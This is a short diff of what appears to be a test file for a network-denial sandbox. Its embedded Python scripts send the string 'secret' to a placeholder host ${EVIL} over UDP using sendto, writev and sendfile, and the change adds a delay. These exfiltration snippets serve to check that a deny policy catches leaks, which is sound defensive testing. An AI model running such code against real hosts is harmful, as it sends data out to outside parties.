@@ -117,13 +117,14 @@ for i in range(3): s.sendto(b'secret', ('${EVIL}', 5002))
     policy: 'deny',
     says: /^$/,
     script: `
-import os, socket, tempfile
+import os, socket, tempfile, time
 def connected():
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('${EVIL}', 5003)); return s
 first, second = connected(), connected()
 os.writev(first.fileno(), [b'sec', b'ret'])
 f = tempfile.TemporaryFile(); f.write(b'secret'); f.flush()
 os.sendfile(second.fileno(), f.fileno(), 0, 6)
+time.sleep(0.3) # without kprobes, who owns a connected socket is asked of the socket
 `,
   },
   {
